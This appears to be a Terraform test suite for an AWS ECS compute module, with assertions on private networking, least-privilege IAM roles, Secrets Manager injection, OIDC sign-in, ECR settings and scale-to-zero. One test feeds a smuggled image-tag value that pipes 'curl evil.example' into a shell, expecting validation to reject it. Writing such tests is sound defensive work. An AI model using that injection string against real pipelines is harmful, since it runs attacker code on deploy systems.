# Tasks in private subnets without public IPs, read-only root file systems, least-privilege
# roles per task, secrets injected from Secrets Manager, ECR hygiene, and scale to zero.

mock_provider "aws" {
  # The provider validates ARNs even when mocked.
  mock_resource "aws_iam_role" {
    defaults = { arn = "arn:aws:iam::123456789012:role/cinemastats-test-role" }
  }
  mock_resource "aws_ecr_repository" {
    defaults = {
      arn            = "arn:aws:ecr:eu-west-2:123456789012:repository/cinemastats-test/service"
      repository_url = "123456789012.dkr.ecr.eu-west-2.amazonaws.com/cinemastats-test/service"
    }
  }
  mock_resource "aws_ecs_cluster" {
    defaults = { arn = "arn:aws:ecs:eu-west-2:123456789012:cluster/cinemastats-test" }
  }
  mock_resource "aws_ecs_task_definition" {
    defaults = { arn = "arn:aws:ecs:eu-west-2:123456789012:task-definition/cinemastats-test:1" }
  }
  mock_resource "aws_service_discovery_service" {
    defaults = { arn = "arn:aws:servicediscovery:eu-west-2:123456789012:service/srv-0123456789abcdef" }
  }
  mock_resource "aws_secretsmanager_secret" {
    defaults = { arn = "arn:aws:secretsmanager:eu-west-2:123456789012:secret:cinemastats-test/ingest/api-keys-AbCdEf" }
  }
  mock_resource "aws_cloudwatch_log_group" {
    defaults = { arn = "arn:aws:logs:eu-west-2:123456789012:log-group:/cinemastats-test/service" }
  }
  mock_resource "aws_lambda_function" {
    defaults = { arn = "arn:aws:lambda:eu-west-2:123456789012:function:cinemastats-test-wake" }
  }
  mock_resource "aws_lambda_function_url" {
    defaults = { function_url = "https://abcdefghijklmnopqrstuvwxyz012345.lambda-url.eu-west-2.on.aws/" }
  }
  mock_resource "aws_appautoscaling_policy" {
    defaults = { arn = "arn:aws:autoscaling:eu-west-2:123456789012:scalingPolicy:00000000-0000-0000-0000-000000000000:resource/ecs/service/cinemastats-test/web:policyName/wake" }
  }
}

variables {
  name                    = "cinemastats-test"
  account_id              = "123456789012"
  region                  = "eu-west-2"
  vpc_id                  = "vpc-0123456789abcdef0"
  vpc_cidr                = "10.40.0.0/16"
  private_subnet_ids      = ["subnet-0aaaaaaaaaaaaaaaa", "subnet-0bbbbbbbbbbbbbbbb"]
  s3_prefix_list_id       = "pl-0123456789abcdef0"
  alb_security_group_id   = "sg-0123456789abcdef0"
  alb_arn_suffix          = "app/cinemastats-test/0123456789abcdef"
  web_target_group_arn    = "arn:aws:elasticloadbalancing:eu-west-2:123456789012:targetgroup/cinemastats-test-web/0123456789abcdef"
  ingest_target_group_arn = "arn:aws:elasticloadbalancing:eu-west-2:123456789012:targetgroup/cinemastats-test-ingest/0123456789abcdef"
  kms_key_arn             = "arn:aws:kms:eu-west-2:123456789012:key/00000000-0000-0000-0000-000000000000"
  bucket_arns = {
    raw     = "arn:aws:s3:::cinemastats-test-raw-123456789012"
    curated = "arn:aws:s3:::cinemastats-test-curated-123456789012"
    results = "arn:aws:s3:::cinemastats-test-results-123456789012"
    logs    = "arn:aws:s3:::cinemastats-test-logs-123456789012"
  }
  bucket_names = {
    raw     = "cinemastats-test-raw-123456789012"
    curated = "cinemastats-test-curated-123456789012"
    results = "cinemastats-test-results-123456789012"
    logs    = "cinemastats-test-logs-123456789012"
  }
  raw_events_queue_arn         = "arn:aws:sqs:eu-west-2:123456789012:cinemastats-test-raw-events"
  raw_events_queue_url         = "https://sqs.eu-west-2.amazonaws.com/123456789012/cinemastats-test-raw-events"
  raw_events_queue_name        = "cinemastats-test-raw-events"
  athena_workgroup_name        = "cinemastats-test"
  athena_workgroup_arn         = "arn:aws:athena:eu-west-2:123456789012:workgroup/cinemastats-test"
  glue_database_name           = "cinemastats_test"
  environment                  = "test"
  image_tag                    = "0123456789abcdef0123456789abcdef01234567"
  permissions_boundary_arn     = "arn:aws:iam::123456789012:policy/cinemastats-test-workload-boundary"
  wake_function_zip            = "functions/wake.zip"
  auth                         = { authority = "https://cognito-idp.eu-west-2.amazonaws.com/eu-west-2_Example", client_id = "cinemastats-web", role_claim = "cognito:groups", public_origin = "https://d0000000000000.cloudfront.net" }
  log_retention_days           = 30
  web_max_tasks                = 2
  transform_max_tasks          = 1
  idle_minutes_before_sleep    = 15
  transform_reconcile_hour_utc = 6
}

# Distinct secret ARNs, so the checks can tell the three secrets apart (file level: a
# resource keeps the values of the run that created it).
override_resource {
  target = aws_secretsmanager_secret.ingest_api_keys
  values = { arn = "arn:aws:secretsmanager:eu-west-2:123456789012:secret:cinemastats-test/ingest/api-keys-AbCdEf" }
}
override_resource {
  target = aws_secretsmanager_secret.web_ingest_api_key
  values = { arn = "arn:aws:secretsmanager:eu-west-2:123456789012:secret:cinemastats-test/web/ingest-api-key-GhIjKl" }
}
override_resource {
  target = aws_secretsmanager_secret.transform_operator_api_key
  values = { arn = "arn:aws:secretsmanager:eu-west-2:123456789012:secret:cinemastats-test/transform/operator-api-key-StUvWx" }
}
override_resource {
  target = aws_secretsmanager_secret.web_oidc_client_secret
  values = { arn = "arn:aws:secretsmanager:eu-west-2:123456789012:secret:cinemastats-test/web/oidc-client-secret-MnOpQr" }
}

run "tasks_run_privately" {
  module {
    source = "./modules/compute"
  }

  assert {
    condition = alltrue([
      for k, s in aws_ecs_service.service :
      !one(s.network_configuration).assign_public_ip && toset(one(s.network_configuration).subnets) == toset(var.private_subnet_ids)
    ])
    error_message = "Every service must run in the private subnets without public IPs."
  }

  assert {
    condition = alltrue([
      for k, td in aws_ecs_task_definition.service :
      alltrue([for c in jsondecode(td.container_definitions) : c.readonlyRootFilesystem == true])
    ])
    error_message = "Every container must have a read-only root file system."
  }

  assert {
    condition = alltrue([
      for k, td in aws_ecs_task_definition.service :
      anytrue([for m in jsondecode(td.container_definitions)[0].mountPoints : m.containerPath == "/tmp" && !m.readOnly])
    ])
    error_message = "Each service needs a writable /tmp volume (uploads, Parquet temp files, query cache)."
  }

  assert {
    condition     = alltrue([for k, td in aws_ecs_task_definition.service : td.network_mode == "awsvpc" && contains(td.requires_compatibilities, "FARGATE")])
    error_message = "Every task must run on Fargate with awsvpc networking."
  }

  assert {
    condition = alltrue([
      for k, r in aws_vpc_security_group_egress_rule.to_endpoints : r.cidr_ipv4 == var.vpc_cidr && r.from_port == 443
    ]) && length(aws_vpc_security_group_ingress_rule.from_alb) == 2 && !contains(keys(aws_vpc_security_group_ingress_rule.from_alb), "transform")
    error_message = "Tasks may reach only HTTPS inside the VPC; only web and ingest accept traffic, and only from the ALB."
  }
}

run "roles_are_least_privilege" {
  module {
    source = "./modules/compute"
  }

  # No statement grants an action wildcard, and "*" resources are limited to APIs without
  # resource-level permissions. Read from the JSON the roles carry.
  assert {
    condition = alltrue(flatten([
      for p in concat(values(aws_iam_role_policy.execution), values(aws_iam_role_policy.task), [aws_iam_role_policy.wake_function]) : [
        for s in jsondecode(p.policy).Statement : alltrue([for a in s.Action : !strcontains(a, "*")])
        && (!contains(s.Resource, "*") || alltrue([
          for a in s.Action : contains([
            "ecr:GetAuthorizationToken", "cloudwatch:PutMetricData", "xray:PutTraceSegments",
            "xray:PutTelemetryRecords", "xray:GetSamplingRules", "xray:GetSamplingTargets",
          ], a)
        ]))
      ]
    ]))
    error_message = "Task, execution and function policies may not use wildcard actions, nor \"*\" resources except for APIs without resource-level permissions."
  }

  assert {
    condition     = alltrue([for k, p in aws_iam_role_policy.task : jsondecode(p.policy) == jsondecode(jsonencode(local.task_policies[k])) && p.role == aws_iam_role.task[k].id])
    error_message = "Each task role must carry its own service's policy."
  }

  assert {
    condition = alltrue([
      for r in concat(values(aws_iam_role.task), values(aws_iam_role.execution), [aws_iam_role.wake_function]) : r.permissions_boundary == var.permissions_boundary_arn
    ])
    error_message = "Every role of the module must carry the workload permissions boundary."
  }

  # Web reads curated data and queries Athena; it never writes curated data or raw uploads.
  assert {
    condition = !anytrue([
      for s in jsondecode(aws_iam_role_policy.task["web"].policy).Statement :
      anytrue([for a in s.Action : contains(["s3:PutObject", "s3:DeleteObject"], a)]) && anytrue([for r in s.Resource : startswith(r, var.bucket_arns["curated"]) || startswith(r, var.bucket_arns["raw"])])
    ])
    error_message = "The web task must not write to or delete from the curated or raw buckets."
  }

  assert {
    condition = alltrue([
      for s in jsondecode(aws_iam_role_policy.task["web"].policy).Statement :
      !anytrue([for a in s.Action : startswith(a, "athena:")]) || s.Resource == [var.athena_workgroup_arn]
    ])
    error_message = "The web task may run Athena queries only in its workgroup."
  }

  # Ingest writes raw uploads and the pipeline ledger, nothing else in curated.
  assert {
    condition = alltrue([
      for s in jsondecode(aws_iam_role_policy.task["ingest"].policy).Statement :
      !contains(s.Action, "s3:PutObject") || alltrue([for r in s.Resource : r == "${var.bucket_arns["raw"]}/raw/*" || r == "${var.bucket_arns["curated"]}/_pipeline/*"])
    ]) && !anytrue([for s in jsondecode(aws_iam_role_policy.task["ingest"].policy).Statement : contains(s.Action, "s3:DeleteObject")])
    error_message = "The ingest task may write only raw/ and the curated _pipeline/ prefix, and delete nothing."
  }

  assert {
    condition = alltrue([
      for s in jsondecode(aws_iam_role_policy.task["transform"].policy).Statement :
      !anytrue([for a in s.Action : startswith(a, "sqs:")]) || s.Resource == [var.raw_events_queue_arn]
    ])
    error_message = "The transform may consume only the raw events queue."
  }

  assert {
    condition = !anytrue([
      for s in jsondecode(aws_iam_role_policy.task["transform"].policy).Statement :
      anytrue([for a in s.Action : contains(["s3:PutObject", "s3:DeleteObject"], a)]) && anytrue([for r in s.Resource : startswith(r, var.bucket_arns["raw"])])
    ])
    error_message = "Raw objects are never modified: the transform must not write to or delete from the raw bucket."
  }

  # Deletes happen only in the transform's curated bucket.
  assert {
    condition = alltrue([
      for k in ["ingest", "web"] : !anytrue([for s in jsondecode(aws_iam_role_policy.task[k].policy).Statement : contains(s.Action, "s3:DeleteObject")])
    ])
    error_message = "Only the transform may delete objects (replaced curated partitions)."
  }

  assert {
    condition = alltrue(flatten([
      for p in values(aws_iam_role_policy.task) : [
        for s in jsondecode(p.policy).Statement : s.Condition.StringEquals["kms:ViaService"] != null if contains(s.Action, "kms:Decrypt")
      ]
    ]))
    error_message = "Task roles may use the key only through S3, SQS or Athena (kms:ViaService)."
  }
}

run "the_wake_function_can_only_start_web_and_ingest" {
  module {
    source = "./modules/compute"
  }

  assert {
    condition = [
      for s in jsondecode(aws_iam_role_policy.wake_function.policy).Statement : s if anytrue([for a in s.Action : startswith(a, "ecs:")])
      ] == [{
        Sid      = "WakeTheFrontDoor"
        Effect   = "Allow"
        Action   = ["ecs:UpdateService", "ecs:DescribeServices"]
        Resource = ["arn:aws:ecs:eu-west-2:123456789012:service/cinemastats-test/web", "arn:aws:ecs:eu-west-2:123456789012:service/cinemastats-test/ingest"]
    }]
    error_message = "The wake function may update and describe exactly the web and ingest services, nothing else in ECS."
  }

  assert {
    condition     = length(jsondecode(aws_iam_role_policy.wake_function.policy).Statement) == 2
    error_message = "The wake function needs its ECS statement and its own log stream, nothing more."
  }

  assert {
    condition     = aws_lambda_function.wake.reserved_concurrent_executions >= 1 && aws_lambda_function.wake.reserved_concurrent_executions <= 5
    error_message = "The wake function must be rate-limited by a small reserved concurrency."
  }

  assert {
    condition     = aws_lambda_function_url.wake.authorization_type == "AWS_IAM"
    error_message = "The wake function URL must take only signed calls (CloudFront's origin access control), never anonymous ones."
  }

  assert {
    condition     = aws_lambda_function.wake.source_code_hash == filebase64sha256("functions/wake.zip") && aws_lambda_function.wake.environment[0].variables.SERVICES == "web,ingest"
    error_message = "The function must run the committed package and start web and ingest."
  }
}

run "an_unbounded_wake_function_is_rejected" {
  command = plan

  module {
    source = "./modules/compute"
  }

  variables {
    wake_function_concurrency = 100
  }

  expect_failures = [var.wake_function_concurrency]
}

run "an_image_tag_that_is_not_a_commit_is_rejected" {
  command = plan

  module {
    source = "./modules/compute"
  }

  variables {
    image_tag = "main\"; curl evil.example | sh; \""
  }

  expect_failures = [var.image_tag]
}

run "prod_runs_the_promoted_digest" {
  module {
    source = "./modules/compute"
  }

  variables {
    image_digests = { web = "sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef" }
  }

  assert {
    condition = (
      endswith(jsondecode(aws_ecs_task_definition.service["web"].container_definitions)[0].image, "@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef")
      && endswith(jsondecode(aws_ecs_task_definition.service["ingest"].container_definitions)[0].image, ":0123456789abcdef0123456789abcdef01234567")
    )
    error_message = "A promoted service must run its image by digest; the others by the commit tag."
  }
}

run "secrets_are_injected_not_stored" {
  module {
    source = "./modules/compute"
  }

  assert {
    condition = (
      jsondecode(aws_ecs_task_definition.service["ingest"].container_definitions)[0].secrets
      == [{ name = "Ingest__ApiKeysJson", valueFrom = aws_secretsmanager_secret.ingest_api_keys.arn }]
    )
    error_message = "The ingest API keys must be injected from Secrets Manager as Ingest__ApiKeysJson."
  }

  assert {
    condition = (
      toset(jsondecode(aws_ecs_task_definition.service["web"].container_definitions)[0].secrets) == toset([
        { name = "Auth__ClientSecret", valueFrom = aws_secretsmanager_secret.web_oidc_client_secret.arn },
        { name = "Web__IngestApiKey", valueFrom = aws_secretsmanager_secret.web_ingest_api_key.arn },
        { name = "Web__TransformOperatorKey", valueFrom = aws_secretsmanager_secret.transform_operator_api_key.arn },
      ])
    )
    error_message = "The web's OIDC client secret, ingest key and operator API key must be injected from Secrets Manager."
  }

  assert {
    condition = (
      jsondecode(aws_ecs_task_definition.service["transform"].container_definitions)[0].secrets
      == [{ name = "Transform__OperatorApi__Key", valueFrom = aws_secretsmanager_secret.transform_operator_api_key.arn }]
      && contains(jsondecode(aws_ecs_task_definition.service["transform"].container_definitions)[0].environment, { name = "Transform__OperatorApi__RequireKey", value = "true" })
    )
    error_message = "The transform's operator API must get its key from Secrets Manager and refuse to start without it."
  }

  assert {
    condition = alltrue([
      for k, td in aws_ecs_task_definition.service : alltrue([
        for c in jsondecode(td.container_definitions) : alltrue([
          for e in try(c.environment, []) : !can(regex("(?i)(apikey|password|secret|__key$)", e.name))
        ])
      ])
    ])
    error_message = "No secret may be passed as a plain environment variable."
  }

  assert {
    condition = alltrue([
      for s in [aws_secretsmanager_secret.ingest_api_keys, aws_secretsmanager_secret.web_ingest_api_key, aws_secretsmanager_secret.web_oidc_client_secret, aws_secretsmanager_secret.transform_operator_api_key] :
      s.kms_key_id == var.kms_key_arn
    ])
    error_message = "Every secret must be encrypted with the environment's key."
  }

  # Each execution role reads only the secrets of its own task; no task role reads any.
  assert {
    condition = {
      for k, p in aws_iam_role_policy.execution : k => sort(flatten([
        for s in jsondecode(p.policy).Statement : s.Resource if contains(s.Action, "secretsmanager:GetSecretValue")
      ]))
      } == {
      ingest    = sort([aws_secretsmanager_secret.ingest_api_keys.arn])
      transform = sort([aws_secretsmanager_secret.transform_operator_api_key.arn])
      web       = sort([aws_secretsmanager_secret.web_ingest_api_key.arn, aws_secretsmanager_secret.web_oidc_client_secret.arn, aws_secretsmanager_secret.transform_operator_api_key.arn])
    }
    error_message = "Each execution role must read exactly its own task's secrets (the web never the ingest API keys)."
  }

  assert {
    condition = !anytrue(flatten([
      for p in values(aws_iam_role_policy.task) : [
        for s in jsondecode(p.policy).Statement : anytrue([for a in s.Action : startswith(a, "secretsmanager:")])
      ]
    ]))
    error_message = "Task roles must not read secrets: ECS injects them through the execution role."
  }
}

run "web_signs_in_through_oidc" {
  module {
    source = "./modules/compute"
  }

  variables {
    auth = { authority = "https://login.example.com/tenant/v2.0", client_id = "cinemastats-web", role_claim = "cognito:groups", public_origin = "https://stats.example.com" }
  }

  assert {
    condition = {
      for e in jsondecode(aws_ecs_task_definition.service["web"].container_definitions)[0].environment :
      e.name => e.value if startswith(e.name, "Auth__")
      } == {
      Auth__Enabled      = "true"
      Auth__Authority    = "https://login.example.com/tenant/v2.0"
      Auth__ClientId     = "cinemastats-web"
      Auth__RoleClaim    = "cognito:groups"
      Auth__AnalystRole  = "analyst"
      Auth__OperatorRole = "operator"
      Auth__PublicOrigin = "https://stats.example.com"
    }
    error_message = "The web must get sign-in switched on with the issuer, client id, role claim, role names and its public address."
  }

  assert {
    condition = alltrue([
      for k in ["ingest", "transform"] :
      !anytrue([for e in jsondecode(aws_ecs_task_definition.service[k].container_definitions)[0].environment : startswith(e.name, "Auth__")])
    ])
    error_message = "Only the web app signs users in."
  }
}

run "oidc_issuer_must_be_https_with_a_client_id" {
  command = plan

  module {
    source = "./modules/compute"
  }

  variables {
    auth = { authority = "http://login.example.com/tenant/v2.0" }
  }

  expect_failures = [var.auth]
}

run "web_reaches_ingest_and_transform_privately" {
  module {
    source = "./modules/compute"
  }

  assert {
    condition = {
      for e in jsondecode(aws_ecs_task_definition.service["web"].container_definitions)[0].environment :
      e.name => e.value if startswith(e.name, "services__")
      } == {
      services__ingest__http__0    = "http://ingest.cinemastats-test.internal:8080"
      services__transform__http__0 = "http://transform.cinemastats-test.internal:8080"
    }
    error_message = "The web must find ingest and transform at their private Cloud Map names (Aspire's services__<name>__http__0)."
  }

  assert {
    condition = alltrue([
      for k in ["ingest", "transform"] :
      one(aws_ecs_service.service[k].service_registries).registry_arn == aws_service_discovery_service.internal[k].arn
      && aws_service_discovery_service.internal[k].name == k
      && one(aws_service_discovery_service.internal[k].dns_config).namespace_id == aws_service_discovery_private_dns_namespace.this.id
    ]) && aws_service_discovery_private_dns_namespace.this.vpc == var.vpc_id
    error_message = "Ingest and transform must register in the VPC's private DNS namespace."
  }

  assert {
    condition = (
      aws_vpc_security_group_ingress_rule.transform_from_web.referenced_security_group_id == aws_security_group.service["web"].id
      && aws_vpc_security_group_ingress_rule.transform_from_web.from_port == 8080
      && aws_vpc_security_group_ingress_rule.transform_from_web.to_port == 8080
      && aws_vpc_security_group_ingress_rule.transform_from_web.cidr_ipv4 == null
      && aws_vpc_security_group_egress_rule.web_to_transform.referenced_security_group_id == aws_security_group.service["transform"].id
      && aws_vpc_security_group_egress_rule.web_to_transform.to_port == 8080
      && aws_vpc_security_group_egress_rule.web_to_ingest.referenced_security_group_id == aws_security_group.service["ingest"].id
      && aws_vpc_security_group_egress_rule.web_to_ingest.to_port == 8080
    )
    error_message = "The web's security group may reach ingest and transform on their HTTP port, and the transform accepts only the web."
  }

  # The transform's operator API (status, reprocess) must stay unreachable from the internet.
  assert {
    condition = (
      length(aws_ecs_service.service["transform"].load_balancer) == 0
      && !contains(keys(aws_vpc_security_group_ingress_rule.from_alb), "transform")
      && aws_vpc_security_group_ingress_rule.transform_from_web.referenced_security_group_id != var.alb_security_group_id
    )
    error_message = "The ALB must not route to the transform, nor may the transform accept the ALB."
  }
}

run "anonymous_access_cannot_be_planned" {
  command = plan

  module {
    source = "./modules/compute"
  }

  variables {
    auth = { public_origin = "https://d0000000000000.cloudfront.net" }
  }

  expect_failures = [var.auth]
}

run "the_web_always_signs_users_in" {
  module {
    source = "./modules/compute"
  }

  assert {
    condition     = contains(jsondecode(aws_ecs_task_definition.service["web"].container_definitions)[0].environment, { name = "Auth__Enabled", value = "true" })
    error_message = "Sign-in must be on in every AWS environment (Auth__Enabled=true): anonymous visitors would get the operator role."
  }
}

run "images_and_logs" {
  module {
    source = "./modules/compute"
  }

  assert {
    condition     = alltrue([for k, r in aws_ecr_repository.service : r.image_tag_mutability == "IMMUTABLE" && one(r.image_scanning_configuration).scan_on_push])
    error_message = "ECR repositories must have immutable tags and scan on push."
  }

  assert {
    condition     = alltrue([for k, r in aws_ecr_repository.service : one(r.encryption_configuration).encryption_type == "KMS" && one(r.encryption_configuration).kms_key == var.kms_key_arn])
    error_message = "ECR repositories must be encrypted with the environment's KMS key."
  }

  assert {
    condition = alltrue([
      for k, td in aws_ecs_task_definition.service :
      strcontains(jsondecode(td.container_definitions)[1].environment[0].value, "Environment") && strcontains(jsondecode(td.container_definitions)[1].environment[0].value, "NoDimensionRollup")
    ])
    error_message = "Every metric must carry the Environment dimension (and no rollup without it), so environments never read each other's alarms."
  }

  assert {
    condition     = alltrue([for k, g in merge(aws_cloudwatch_log_group.service, aws_cloudwatch_log_group.otel, { wake = aws_cloudwatch_log_group.wake_function }) : g.retention_in_days > 0 && g.retention_in_days <= 400 && g.kms_key_id == var.kms_key_arn])
    error_message = "Every log group needs a retention (so logs do not cost forever) and KMS encryption."
  }

  assert {
    condition = alltrue([
      for k, td in aws_ecs_task_definition.service :
      jsondecode(td.container_definitions)[0].environment[index(jsondecode(td.container_definitions)[0].environment[*].name, "OTEL_EXPORTER_OTLP_ENDPOINT")].value == "http://localhost:4317"
      && jsondecode(td.container_definitions)[1].name == "otel-collector"
    ])
    error_message = "Every service must export OpenTelemetry to its collector sidecar."
  }

  assert {
    condition     = alltrue([for k, td in aws_ecs_task_definition.service : length(jsondecode(td.container_definitions)[0].healthCheck.command) > 0])
    error_message = "Every service container needs a health check."
  }
}

run "services_scale_to_zero_and_wake" {
  module {
    source = "./modules/compute"
  }

  assert {
    condition     = alltrue([for k, t in aws_appautoscaling_target.service : t.min_capacity == 0]) && length(aws_appautoscaling_target.service) == 3
    error_message = "Every service must be able to scale to zero tasks."
  }

  assert {
    condition     = alltrue([for k, s in aws_ecs_service.service : s.desired_count == 0])
    error_message = "Services must be created with zero tasks (the autoscaler starts them on demand)."
  }

  assert {
    condition = (
      contains(aws_cloudwatch_metric_alarm.front_door_wake.alarm_actions, aws_appautoscaling_policy.wake["web"].arn)
      && aws_cloudwatch_metric_alarm.front_door_wake.metric_name == "HTTPCode_ELB_503_Count"
      && aws_cloudwatch_metric_alarm.front_door_wake.period == 60
      && one(one(aws_appautoscaling_policy.wake["web"].step_scaling_policy_configuration).step_adjustment).scaling_adjustment >= 1
    )
    error_message = "The first request refused while web sleeps (ALB 503) must start a web task within a minute."
  }

  assert {
    condition = (
      contains(aws_cloudwatch_metric_alarm.front_door_idle.alarm_actions, aws_appautoscaling_policy.sleep["web"].arn)
      && one(one(aws_appautoscaling_policy.sleep["web"].step_scaling_policy_configuration).step_adjustment).scaling_adjustment == 0
      && aws_cloudwatch_metric_alarm.front_door_idle.treat_missing_data == "breaching"
    )
    error_message = "Web must go to zero tasks when idle (no datapoints while idle counts as idle)."
  }

  assert {
    condition     = anytrue([for q in aws_cloudwatch_metric_alarm.front_door_idle.metric_query : q.return_data == true && try(strcontains(q.expression, "refused"), false)])
    error_message = "Refused (503) requests must count as activity, or a waking service is put straight back to sleep."
  }

  assert {
    condition     = contains(aws_cloudwatch_metric_alarm.transform_wake.alarm_actions, aws_appautoscaling_policy.wake["transform"].arn) && contains(aws_cloudwatch_metric_alarm.transform_idle.alarm_actions, aws_appautoscaling_policy.sleep["transform"].arn)
    error_message = "The transform must wake on queued raw/ events and sleep when the queue is empty."
  }

  assert {
    condition     = one(aws_ecs_service.service["transform"].capacity_provider_strategy).capacity_provider == "FARGATE_SPOT"
    error_message = "The restartable transform runs on Fargate Spot."
  }
}
